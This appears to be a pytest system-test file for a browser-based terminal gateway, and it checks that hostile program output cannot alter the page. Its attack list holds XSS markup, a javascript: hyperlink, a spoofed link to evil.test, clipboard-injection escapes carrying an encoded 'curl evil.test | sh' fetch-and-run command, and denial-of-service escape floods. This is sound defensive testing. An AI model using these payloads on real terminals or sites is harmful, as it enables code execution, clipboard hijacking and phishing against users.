"""Output that wants more than to be shown. It comes from whatever a tenant's programs read."""

import base64

import pytest

from tests.gateway.conftest import Tenant
from tests.web.fake_terminals import FakeTerminals
from tests.web.signed_in import Browser, wait_until

pytestmark = pytest.mark.system

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
HTML = "<script>globalThis.owned = 1</script><img src=x onerror='globalThis.owned = 1'>"
STOLEN = base64.b64encode(b"curl evil.test | sh").decode()

# Each would do harm in some terminal, or did once.
ATTACKS = {
    "markup": HTML,
    "markup in a title": f"{ESC}]0;{HTML}{BEL}{ESC}]2;{HTML}{ST}{ESC}]1;{HTML}{BEL}",
    "a title without end": f"{ESC}]0;{'A' * 200_000}{BEL}",
    "titles without end": "".join(f"{ESC}]0;{number}{BEL}" for number in range(5_000)),
    "a title that turns": f"{ESC}]0;\u202egnp.exe\u2066\u200b{BEL}",
    "the clipboard, written": f"{ESC}]52;c;{STOLEN}{BEL}{ESC}]52;p;{STOLEN}{ST}",
    "the clipboard, read": f"{ESC}]52;c;?{BEL}",
    "a link": f"{ESC}]8;;javascript:globalThis.owned=1{ST}click{ESC}]8;;{ST}",
    "a link elsewhere": f"{ESC}]8;;https://evil.test/{ST}https://bank.test/{ESC}]8;;{ST}",
    "the window": "".join(f"{ESC}[{how}t" for how in ("3;0;0", "4;9999;9999", "8;999;999", "2")),
    "the window, asked": "".join(f"{ESC}[{what}t" for what in (11, 13, 14, 18, 19, 20, 21)),
    "132 columns": f"{ESC}[?40h{ESC}[?3h",
    "notifications": f"{ESC}]9;{HTML}{BEL}{ESC}]777;notify;{HTML};x{BEL}{ESC}]99;;{HTML}{ST}",
    "programs of iTerm": f"{ESC}]1337;File=name=eA==;inline=1:{STOLEN}{BEL}{ESC}]50;x{BEL}",
    "pictures": f"{ESC}Pq#0;2;0;0;0#0!999999~-{ST}{ESC}_Gf=24,s=9999,v=9999;{STOLEN}{ST}",
    "strings that never end": f"{ESC}P{'x' * 100_000}{ESC}\\{ESC}^{HTML}{ST}{ESC}_{HTML}{ST}",
    "counts without end": "".join(
        f"x{ESC}[2147483647{final}" for final in "@ABCDEFGILMPSTXZ`abdefg"
    )
    + "".join(f"{ESC}[9999999;9999999{final}" for final in "Hfr"),
    "numbers without end": f"{ESC}[{'9' * 10_000}A{ESC}[{';1' * 5_000}m{ESC}[999999999b{ESC}[9999@",
    "another alphabet": f"{ESC}(0qqq{ESC}(B{ESC}N{ESC}O{ESC}~\x0e\x0f",
    "keys redefined": f"{ESC}P0;1|17/726d202d7266{ST}{ESC}[?1000h{ESC}[?1006h{ESC}[?2004h",
    "every control": "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)])),
    "every escape": "".join(
        f"{ESC}{chr(final)}" for final in range(0x30, 0x7F) if final not in b"P[X]^_"
    ),
    "every sequence": "".join(f"{ESC}[{chr(final)}" for final in range(0x40, 0x7F)),
    "every private sequence": "".join(
        f"{ESC}[{mark}1{chr(final)}" for mark in "?><=" for final in range(0x40, 0x7F)
    ),
    "characters that are none": "\ufffe\uffff\U0010ffff\u0300" * 1_000 + "e" + "\u0301" * 20_000,
}
RESET = f"{ESC}c{ESC}[!p{ESC}[?1000l{ESC}[?2004l"


@pytest.fixture
async def shell(browser: Browser, acme: Tenant, terminals: FakeTerminals) -> Browser:
    await browser.sign_in(acme)
    await browser.wait_for_screen("$")
    # What is typed is only collected: nobody answers it.
    await browser.type("stty raw -echo; exec sleep 1000\n")
    await browser.wait_for_screen("sleep 1000")
    await wait_until(lambda: "sleep 1000\r" in "".join(terminals.written), "the gateway to be told")
    terminals.written.clear()
    return browser


async def show(browser: Browser, terminals: FakeTerminals, attack: str) -> None:
    """Wait until all of ``attack`` was drawn: what comes after it can be read."""
    terminals.say(terminals.only, attack)
    end = f"over at {len(terminals.only.kept)}"
    terminals.say(terminals.only, f"{ESC}{ST}{BEL}\x18{RESET}\r\n{end}\r\n")
    await browser.wait_for_screen(end)


async def assert_clean(browser: Browser) -> None:
    page = browser.page
    assert await page.evaluate("typeof globalThis.owned") == "undefined"
    assert await page.evaluate("document.title") == "Terminal · OpenClawMU"
    assert await page.evaluate("document.querySelectorAll('img, a, iframe, object').length") == 0
    assert await page.evaluate("document.querySelectorAll('script').length") == 1
    assert await page.evaluate("location.pathname") == "/terminal"
    assert await browser.violations() == []
    label = await page.evaluate("document.querySelector('[role=tab]').textContent")
    assert len(label) <= 60
    assert label.isprintable()


async def test_hostile_output_leaves_the_page_as_it_was(
    shell: Browser, terminals: FakeTerminals
) -> None:
    size = terminals.only.cols, terminals.only.rows
    for attack in ATTACKS.values():
        await show(shell, terminals, attack)
        await assert_clean(shell)

    assert (terminals.only.cols, terminals.only.rows) == size
    typed = "".join(terminals.written)
    assert STOLEN not in typed
    assert "]52" not in typed
    assert "evil" not in typed
    assert await shell.page.evaluate("document.querySelectorAll('.tab').length") == 1
    said = [line for line in shell.page.said if "exception" in line]
    assert said == []


async def test_questions_without_end_are_answered_a_few_times(
    shell: Browser, terminals: FakeTerminals
) -> None:
    await show(shell, terminals, f"{ESC}[c{ESC}[6n{ESC}[>c{ESC}[?6n{ESC}[5n{ESC}]10;?{BEL}" * 2_000)
    await wait_until(lambda: bool(terminals.written), "the gateway to be told")

    answers = "".join(terminals.written).count(ESC)
    assert 1 <= answers <= 100


async def test_what_is_shown_again_is_not_answered_again(
    shell: Browser, terminals: FakeTerminals
) -> None:
    await show(shell, terminals, f"{ESC}[c{ESC}[6n")
    # The last of the two answers, which may come on their own: where the cursor is.
    await wait_until(lambda: "".join(terminals.written).endswith("R"), "the gateway to be told")
    terminals.written.clear()

    await shell.reload()
    await shell.wait_for_screen("over at")
    await shell.page.evaluate("new Promise((passed) => setTimeout(passed, 300))")

    assert terminals.written == []
